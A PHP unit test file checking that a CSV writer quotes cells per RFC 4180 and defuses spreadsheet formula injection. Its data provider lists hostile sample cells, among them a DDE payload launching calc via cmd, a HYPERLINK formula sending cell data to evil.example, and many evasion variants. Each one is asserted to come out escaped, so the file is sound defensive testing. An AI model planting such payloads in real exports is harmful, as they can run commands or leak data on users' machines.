<?php

declare(strict_types=1);

namespace Benefit\Tests\Unit\Shared\Admin;

use Benefit\Shared\Admin\CsvWriter;
use PHPUnit\Framework\Attributes\DataProvider;
use PHPUnit\Framework\TestCase;

/** RFC 4180, and no cell that a spreadsheet would run. */
final class CsvTest extends TestCase
{
    #[DataProvider('cells')]
    public function testWritesACell(string|int $value, string $written): void
    {
        self::assertSame($written . ",x\r\n", CsvWriter::line([$value, 'x']));
    }

    /** @return iterable<string, array{string|int, string}> */
    public static function cells(): iterable
    {
        yield 'a word' => ['Ada', 'Ada'];
        yield 'a number' => [-3, '-3'];
        yield 'nothing' => ['', ''];
        yield 'a comma' => ['Byron, Ada', '"Byron, Ada"'];
        yield 'quotes' => ['the "Countess"', '"the ""Countess"""'];
        yield 'two lines' => ["a\nb", "\"a\nb\""];
        yield 'spaces around' => [' a ', '" a "'];
        yield 'a formula behind characters that show nothing' => ["\u{200B}=1+1", "'\u{200B}=1+1"];
        yield 'a formula' => ['=1+1', "'=1+1"];
        yield 'a command' => ["=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"];
        yield 'a formula that leaks' => ['=HYPERLINK("http://evil.example?x="&A1,"ok")', '"\'=HYPERLINK(""http://evil.example?x=""&A1,""ok"")"'];
        yield 'plus, as of a telephone number' => ['+43 1 234', "'+43 1 234"];
        yield 'minus' => ['-2+3', "'-2+3"];
        yield 'at' => ['@SUM(A1)', "'@SUM(A1)"];
        yield 'a tab' => ["\t=1", "'\t'=1"];
        yield 'a carriage return' => ["\r=1", "\"'\r'=1\""];
        yield 'spaces before the sign' => ['  =1+1', "'  =1+1"];
        yield 'a line break before the sign' => ["\n=1+1", "\"'\n'=1+1\""];
        yield 'a full-width sign' => ['＝1+1', "'＝1+1"];
        yield 'a NUL before the sign' => ["\0=1+1", "'=1+1"];
        // A spreadsheet that expects semicolons (German Excel) splits a cell of ours, and does not see quotes within one.
        yield 'a formula after a semicolon' => ['a;=1+1', "a;'=1+1"];
        yield 'two of them, after spaces' => ["a; =1;\u{A0}@b", "a;' =1;'\u{A0}@b"];
        yield 'a formula after a tab' => ["a\t+1", "a\t'+1"];
        yield 'a formula after a bar' => ['a|-1', "a|'-1"];
        yield 'a full-width sign after a semicolon' => ['a;＝1', "a;'＝1"];
        yield 'a formula on the second line' => ["a\n=1", "\"a\n'=1\""];
        yield 'a formula on the second line, as browsers send it' => ["a\r\n-1", "\"a\r\n'-1\""];
        yield 'a formula after a semicolon and a quote' => ['a;"=1;b', '"a;\'""=1;b"'];
        yield 'a semicolon before a word' => ['a; b|c-d', 'a; b|c-d'];
        yield 'an address' => ['ada@example.org', 'ada@example.org'];
    }

    public function testWithSemicolonsBetweenColumnsACommaIsTheOtherSeparator(): void
    {
        self::assertSame("12,50;\"a;b\";a,'=1;\"a;'=1\"\r\n", CsvWriter::line(['12,50', 'a;b', 'a,=1', 'a;=1'], CsvWriter::separator(',')));
        self::assertSame(',', CsvWriter::separator('.'));
    }

    public function testALineEndsAsSpreadsheetsExpect(): void
    {
        self::assertSame("a,1,\"b,c\"\r\n", CsvWriter::line(['a', 1, 'b,c']));
        self::assertSame("\xEF\xBB\xBF", CsvWriter::BOM);
    }
}
